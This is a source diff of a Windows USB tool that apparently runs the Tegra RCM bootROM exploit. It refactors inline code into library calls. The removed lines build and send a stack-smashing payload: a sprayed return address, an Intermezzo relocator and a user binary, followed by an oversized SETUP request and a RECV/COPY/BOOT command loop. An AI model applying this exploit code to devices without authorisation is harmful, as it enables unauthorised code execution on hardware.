-			_tprintf(TEXT("Please run Zadig and install the libusbK (v3.0.7.0) driver for this device\n"));
-
-			_ftprintf(stderr,TEXT("Failed to open USB device handle because of wrong driver installed\n"));
-			return -6;
-		}
-
-		KUSB_DRIVER_API Usb;
-		LibK_LoadDriverAPI(&Usb, deviceInfo->DriverID);
-
-		// Initialize the device
-		KUSB_HANDLE handle = nullptr;
-		if (!Usb.Init(&handle, deviceInfo))
-		{
-			const auto errorCode = GetLastError();
-			_ftprintf(stderr,TEXT("Failed to open USB device handle with win32 error %u\n"), errorCode);
-			return -6;
-		}
-		else
-			_tprintf(TEXT("Opened USB device path %hs\n"), deviceInfo->DevicePath);
-
-		RCMDeviceHacker rcmDev(Usb, handle); handle = nullptr;
-		
-		libusbk::version_t usbkVersion;
-		memset(&usbkVersion, 0, sizeof(usbkVersion));
-		const auto versRetVal = rcmDev.getDriverVersion(usbkVersion);
-		if (versRetVal <= 0)
-		{
-			_ftprintf(stderr, TEXT("Failed to get libusbK driver version for device with win32 error %d\n"), -versRetVal);
-			return -6;
-		}
-		else if (usbkVersion.major != 3 || usbkVersion.minor != 0 || usbkVersion.micro != 7)
-		{
-			_tprintf(TEXT("The opened device isn't using the correct libusbK driver version (expected: %u.%u.%u got: %u.%u.%u)\n"),
-							3, 0, 7, usbkVersion.major, usbkVersion.minor, usbkVersion.micro);
-			_tprintf(TEXT("Please run Zadig and install the libusbK (v3.0.7.0) driver for this device\n"));
-
-			_ftprintf(stderr, TEXT("Failed to open USB device handle because of wrong driver version installed\n"));
-			return -6;
-		}
-
-		u8 didBuf[0x10];
-		memset(didBuf, 0, sizeof(didBuf));
-		const auto didRetVal = rcmDev.readDeviceId(didBuf, sizeof(didBuf));
-		if (didRetVal >= int(sizeof(didBuf)))
-		{
-			_tprintf(TEXT("RCM Device with id %02X%02X%02X%02X%02X%02X%02X%02X%02X%02X%02X%02X%02X%02X%02X%02X initialized successfully!\n"),
-				(u32)didBuf[0],(u32)didBuf[1],(u32)didBuf[2],(u32)didBuf[3],(u32)didBuf[4],(u32)didBuf[5],(u32)didBuf[6],(u32)didBuf[7],
-				(u32)didBuf[8],(u32)didBuf[9],(u32)didBuf[10],(u32)didBuf[11],(u32)didBuf[12],(u32)didBuf[13],(u32)didBuf[14],(u32)didBuf[15]);
-		}
-		else
-		{
-			if (didRetVal < 0)
-				_ftprintf(stderr, TEXT("Reading device id failed with win32 error %d\n"), -didRetVal);
-			else
-				_ftprintf(stderr, TEXT("Was only able to read %d out of %d bytes of device id\n"), didRetVal, (int)sizeof(didBuf));
-
-			return -7;
-		}
-
-		size_t currPayloadOffs = 0;
-		ByteVector payloadBuf;
-
-		// Prefix the image with an RCM command, so it winds up loaded into memory at the right location (0x40010000).
-		// Use the maximum length accepted by RCM, so we can transmit as much payload as we want; we'll take over before we get to the end.
-		{
-			const u32 lengthData = 0x30298;
-			payloadBuf.resize(payloadBuf.size() + sizeof(lengthData));
-			memcpy(&payloadBuf[currPayloadOffs], &lengthData, sizeof(lengthData));
-			currPayloadOffs += sizeof(lengthData);
-		}
-			
-		// pad out to 680 so the payload starts at the right address in IRAM
-		payloadBuf.resize(680, 0);
-		currPayloadOffs = payloadBuf.size();
-
-		constexpr u32 RCM_PAYLOAD_ADDR = 0x40010000;
-		if (usingNoMezzo)
-		{
-			constexpr size_t bytesToAdd = 0x1a3a * sizeof(u32);
-			payloadBuf.resize(payloadBuf.size()+bytesToAdd, 0);
-			currPayloadOffs += bytesToAdd;
-			assert(currPayloadOffs == payloadBuf.size());
-
-			// Reload the user-supplied binary in case it changed
-			readFileRes = ReadFileToBuf(userFileBuf, TEXT("payload"), inputFilename, 0, 0, false);
-			if (readFileRes != 0)
-				return readFileRes;
-
-			u32 entry = RCM_PAYLOAD_ADDR + (u32)userFileBuf.size() + sizeof(u32);
-			entry |= 1; //we want to jump to thumb code
-
-			payloadBuf.resize(payloadBuf.size()+sizeof(u32));
-			memcpy(&payloadBuf[currPayloadOffs], &entry, sizeof(entry));
-			currPayloadOffs += sizeof(entry);
-			assert(currPayloadOffs == payloadBuf.size());
-		}
-		else
-		{
-			constexpr u32 INTERMEZZO_LOCATION = 0x4001F000;
-			// Populate from[RCM_PAYLOAD_ADDR, INTERMEZZO_LOCATION) with the payload address.
-			// We'll use this data to smash the stack when we execute the vulnerable memcpy.
-			{
-				constexpr size_t bytesToAdd = (INTERMEZZO_LOCATION-RCM_PAYLOAD_ADDR);
-				payloadBuf.resize(payloadBuf.size()+bytesToAdd);
-				while (currPayloadOffs < payloadBuf.size())
-				{
-					const u32 spreadMeAround = INTERMEZZO_LOCATION;
-					memcpy(&payloadBuf[currPayloadOffs], &spreadMeAround, sizeof(spreadMeAround));
-					currPayloadOffs += sizeof(spreadMeAround);
-				}
-			}
-
-			// Reload the user-supplied relocator in case it changed
 			if (!usingBuiltinMezzo)
 			{
-				readFileRes = ReadFileToBuf(mezzoBuf, TEXT("relocator"), mezzoFilename, 0, 0, false);
+				readFileRes = rcmsmash_set_relocator_file(smashCtx, ToUtf8(mezzoFilename).c_str());
 				if (readFileRes != 0)
 					return readFileRes;
 			}
 
-			// Include the Intermezzo binary in the command stream. This is our first-stage payload, and it's responsible for relocating the final payload to 0x40010000.
-			{
-				payloadBuf.resize(payloadBuf.size()+mezzoBuf.size());
-				if (currPayloadOffs < payloadBuf.size())
-				{
-					memcpy(&payloadBuf[currPayloadOffs], &mezzoBuf[0], mezzoBuf.size());
-					currPayloadOffs += mezzoBuf.size();
-				}
-				assert(currPayloadOffs == payloadBuf.size());
-			}
-
-			constexpr u32 PAYLOAD_LOAD_BLOCK = 0x40020000;
-			// Finally, pad until we've reached the position we need to put the payload.
-			// This ensures the payload winds up at the location Intermezzo expects.
-			{
-				const auto position = INTERMEZZO_LOCATION + mezzoBuf.size();
-				const auto paddingSize = PAYLOAD_LOAD_BLOCK - position;
-
-				payloadBuf.resize(payloadBuf.size()+paddingSize, 0);
-				currPayloadOffs += paddingSize;
-				assert(currPayloadOffs == payloadBuf.size());
-			}
-
-			// Reload the user-supplied binary in case it changed
-			readFileRes = ReadFileToBuf(userFileBuf, TEXT("payload"), inputFilename, 0, 0, false);
+			readFileRes = rcmsmash_set_payload_file(smashCtx, ToUtf8(inputFilename).c_str());
 			if (readFileRes != 0)
 				return readFileRes;
 		}
-		
-		// Put our user-supplied binary into the payload
-		{
-			payloadBuf.resize(payloadBuf.size()+userFileBuf.size());
-			if (currPayloadOffs < payloadBuf.size())
-			{
-				memcpy(&payloadBuf[currPayloadOffs], &userFileBuf[0], userFileBuf.size());
-				currPayloadOffs += userFileBuf.size();
-			}
-			assert(currPayloadOffs == payloadBuf.size());
-		}
-
-		constexpr size_t PAYLOAD_TOTAL_MAX_SIZE = 192*1024;
-		// Pad the payload to fill a USB request exactly, so we don't send a short
-		// packet and break out of the RCM loop.
-		if (payloadBuf.size() < PAYLOAD_TOTAL_MAX_SIZE)
-			payloadBuf.resize(align_up(payloadBuf.size(), RCMDeviceHacker::PACKET_SIZE), 0);
-		else
-			payloadBuf.resize(PAYLOAD_TOTAL_MAX_SIZE);
-
-		// Send the constructed payload, which contains the command, the stack smashing values, the Intermezzo relocation stub, and the user payload.
-		_tprintf(TEXT("Uploading payload (mezzo size: %u, user size: %u, total size: %u, total padded size: %u)...\n"), 
-						(u32)mezzoBuf.size(), (u32)userFileBuf.size(), (u32)currPayloadOffs, (u32)payloadBuf.size());
-
-		const auto writeRes = rcmDev.write(&payloadBuf[0], payloadBuf.size());
-		if (writeRes < (int)payloadBuf.size())
-		{
-			if (writeRes < 0)
-				_ftprintf(stderr, TEXT("Win32 error %d happened trying to write payload buffer to RCM\n"), -writeRes);
-			else
-				_ftprintf(stderr, TEXT("Was only able to upload %d out of %d bytes of payload buffer\n"), writeRes, (int)payloadBuf.size());
-
-			return -8;
-		}
-
-		// The RCM backend alternates between two different DMA buffers.Ensure we're about to DMA into the higher one, so we have less to copy during our attack.
-		const auto switchRes = rcmDev.switchToHighBuffer();
-		if (switchRes != 0)
-		{
-			if (switchRes < 0)
-			{
-				_ftprintf(stderr, TEXT("Failed to switch to high buffer, win32 error %d\n"), -switchRes);
-				return -9;
-			}
-			else if (switchRes != RCMDeviceHacker::PACKET_SIZE)
-			{
-				_ftprintf(stderr, TEXT("Only wrote %d out of %d bytes during high buffer switch\n"), switchRes, (int)RCMDeviceHacker::PACKET_SIZE);
-				return -9;
-			}
-
-			_tprintf(TEXT("Switched to high buffer\n"));
-		}
 
-		_tprintf(TEXT("Smashing the stack!\n"));
-		const auto smashRes = rcmDev.smashTheStack();
-		if (smashRes < 0)
+		const auto sessionStart = std::chrono::steady_clock::now();
+		RcmSmashResult_t sessionResult;
+		const auto sessionRes = rcmsmash_run_device(smashCtx, deviceInfo, &sessionResult);
+		if (deviceInfo == &pluggedEvent.deviceInfo && sessionResult.openedMs > 0)
 		{
-			_ftprintf(stderr, TEXT("Got win32 error %d tryin to smash\n"), -smashRes);
-			return -10;
+			const auto queuedMs = std::chrono::duration<double, std::milli>(sessionStart - pluggedEvent.eventTime).count();
+			LogPrint(LogLevel::Info, TEXT("Attach to open latency %.2f ms\n"), queuedMs + sessionResult.openedMs);
 		}
 
-		_tprintf(TEXT("Smashed the stack with a 0x%04x byte SETUP request!\n"), smashRes);
-
-		if (readbackUsb || loadData.size() > 0 || copyData.size() > 0 || bootData.size() > 0)
-		{
-			ByteVector readBuffer(32768, 0);
-			int bytesRead = 0;
-			while ((bytesRead = rcmDev.read(&readBuffer[0], readBuffer.size())) > 0)
-			{
-				auto dataIt = std::find_if(loadData.begin(), loadData.end(), [bytesRead,&readBuffer](const LoadDataItem& itm) 
-				{
-					if (itm.name.length() == 0)
-						return false;
-
-					const char* dataName = itm.name.c_str();
-					const size_t dataNameLen = itm.name.length();
-					if (bytesRead > int(dataNameLen) && readBuffer[dataNameLen] == '\n' &&
-						strncmp((const char*)&readBuffer[0], dataName, dataNameLen) == 0)
-						return true;
-
-					return false;
-				});
-
-				static const char READY_INDICATOR[] = "READY.\n";
-				if (bytesRead == array_countof(READY_INDICATOR)-1 && memcmp(&readBuffer[0], READY_INDICATOR, array_countof(READY_INDICATOR)-1) == 0)
-				{
-					_tprintf(TEXT("Switching to command mode due to %hs"), READY_INDICATOR);
-					for (auto& currData : loadData)
-					{
-						if (!currData.reloaded)
-						{
-							readFileRes = ReadFileToBuf(currData.dataBytes, TEXT("data"), currData.filename.c_str(), currData.offset, currData.maxCount, false);
-							if (readFileRes != 0)
-								return readFileRes;
-
-							if (currData.dataBytes.size() < currData.maxCount)
-								currData.dataBytes.resize(currData.maxCount, 0);
-
-							currData.reloaded = true;
-						}
-
-						_tprintf(TEXT("Sending %Ts (%llu bytes) to address 0x%08llx\n"), currData.filename.c_str(), (u64)currData.dataBytes.size(), (u64)currData.address);
-						if (currData.dataBytes.size() == 0)
-							continue;
-
-						int bytesSent = rcmDev.write((const u8*)"RECV", strlen("RECV"));
-						if (bytesSent == strlen("RECV"))
-						{
-							u32 offsetData[] ={ _byteswap_ulong((u32)currData.address), _byteswap_ulong((u32)currData.dataBytes.size()) };
-							bytesSent = rcmDev.write((const u8*)&offsetData[0], sizeof(offsetData));
-							if (bytesSent == sizeof(offsetData))
-								bytesSent = rcmDev.write(&currData.dataBytes[0], currData.dataBytes.size(), readBuffer.size());
-						}
-						if (bytesSent != int(currData.dataBytes.size()))
-						{
-							if (bytesSent < 0)
-							{
-								_ftprintf(stderr, TEXT("Got win32 err %d during send operation!\n"), -bytesSent);
-								return -10;
-							}
-							else if (size_t(bytesSent) < currData.dataBytes.size())
-							{
-								_ftprintf(stderr, TEXT("Only sent %d out of %llu bytes for data file %Ts!\n"), bytesSent, (u64)currData.dataBytes.size(), currData.filename.c_str());
-								continue;
-							}
-						}
-					}
-
-					for (const auto& currData : copyData)
-					{
-						_tprintf(TEXT("Sending COPY command %hs (from 0x%08llx-0x%08llx to 0x%08llx-0x%08llx) type %u\n"), 
-							currData.name.c_str(), (u64)currData.srcaddr, (u64)currData.srcaddr+currData.srclen,
-							(u64)currData.dstaddr, (u64)currData.dstaddr+(u64)currData.dstlen, currData.copyType);
-						
-
-						int bytesToSend = (int)strlen("COPY");
-						int bytesSent = rcmDev.write((const u8*)"COPY", (size_t)bytesToSend);
-						if (bytesSent == bytesToSend)
-						{
-							u32 copyData[] ={ _byteswap_ulong((u32)currData.copyType), 
-								_byteswap_ulong((u32)currData.srcaddr), _byteswap_ulong((u32)currData.srclen),
-								_byteswap_ulong((u32)currData.dstaddr), _byteswap_ulong((u32)currData.dstlen) };
-
-							bytesToSend = sizeof(copyData);
-							bytesSent = rcmDev.write((const u8*)&copyData[0], (size_t)bytesToSend);
-						}
-						if (bytesSent != bytesToSend)
-						{
-							if (bytesSent < 0)
-							{
-								_ftprintf(stderr, TEXT("Got win32 err %d during send operation!\n"), -bytesSent);
-								return -10;
-							}
-							else if (bytesSent < bytesToSend)
-							{
-								_ftprintf(stderr, TEXT("Only sent %d out of %d bytes for copy command %hs!\n"), bytesSent, bytesToSend, currData.name.c_str());
-								continue;
-							}
-						}
-					}
-
-					for (const auto& currData : bootData)
-					{
-						_tprintf(TEXT("Booting AArch64 with PC 0x%08llx...\n"), (u64)currData.pc);
-						int bytesSent = rcmDev.write((const u8*)"BOOT", strlen("BOOT"));
-						if (bytesSent == strlen("BOOT"))
-						{
-							u32 addrData = _byteswap_ulong((u32)currData.pc);
-							bytesSent = rcmDev.write((const u8*)&addrData, sizeof(addrData));
-							if (bytesSent == sizeof(addrData))
-							{
-								_tprintf(TEXT("BOOT command sent successfully!"));
-								if (!readbackUsb)
-								{
-									_tprintf(TEXT(" Exiting.\n"));
-									return 0;
-								}
-								else
-								{
-									_tprintf(TEXT(" Continuing.\n"));
-									break;
-								}
-							}
-						}
-					}
-				}
-				else if (dataIt == loadData.end()) //no matching section to send, just print out the message
-				{
-					WinString printMe((const char*)&readBuffer[0], (const char*)&readBuffer[bytesRead]);
-					_tprintf(printMe.c_str());
-				}
-				else //got a section to send
-				{
-					_tprintf(TEXT("Switching to sending of section '%hs'\n"), dataIt->name.c_str());
-					if (!dataIt->reloaded)
-					{
-						readFileRes = ReadFileToBuf(dataIt->dataBytes, TEXT("data"), dataIt->filename.c_str(), dataIt->offset, dataIt->maxCount, false);
-						if (readFileRes != 0)
-							return readFileRes;
-
-						dataIt->reloaded = true;
-					}
-
-					size_t numBytesSent = 0;
-					while ((bytesRead = rcmDev.read(&readBuffer[0], readBuffer.size())) >= 8)
-					{
-						u32 offset, length;
-						memcpy(&offset, &readBuffer[0], sizeof(offset));
-						memcpy(&length, &readBuffer[sizeof(offset)], sizeof(length));
-						offset = _byteswap_ulong(offset);
-						length = _byteswap_ulong(length);
-
-						if (length == 0)
-						{
-							_tprintf(TEXT("Finished sending section '%hs' (total bytes sent: %llu)\n"), dataIt->name.c_str(), (u64)numBytesSent);
-							break;
-						}
-
-						const auto neededBytes = size_t(offset)+size_t(length);
-						if (neededBytes > dataIt->dataBytes.size())
-						{
-							_ftprintf(stderr, TEXT("Device requested %llu bytes (we only have %llu in file '%Ts')!\n"), (u64)neededBytes, (u64)dataIt->dataBytes.size(), dataIt->filename.c_str());
-							return -2;
-						}
-
-						_tprintf(TEXT("Sending 0x%08x bytes from offset 0x%08x\n"), length, offset);
-						int bytesSent = rcmDev.write(&dataIt->dataBytes[offset], length, readBuffer.size());
-						if (bytesSent != int(length))
-						{
-							if (bytesSent >= 0)
-								_ftprintf(stderr, TEXT("Warn: Sent only %d out of requested %u bytes\n"), bytesSent, length);
-							else
-							{
-								_ftprintf(stderr, TEXT("Got win32 err %d during send operation!\n"), -bytesSent);
-								return -10;
-							}
-						}
-						numBytesSent += bytesSent;
-					}
-					if (bytesRead < 0)
-					{
-						_ftprintf(stderr, TEXT("Got win32 err %d during [offset,length] read operation!\n"), -bytesRead);
-						return -10;
-					}
-					else if (bytesRead < 8)
-					{
-						_ftprintf(stderr, TEXT("Read too short packet (%d bytes) while in section send mode, dropping out.\n"), bytesRead);
-						break;
-					}
-				}
-			}
-			if (bytesRead < 0)
-			{
-				_ftprintf(stderr, TEXT("Win32 error %d during post-smash read op\n"), -bytesRead);
-				return -10;
-			}
-		}
+		return sessionRes;
 	}
 
 	return 0;
-}
\ No newline at end of file
+}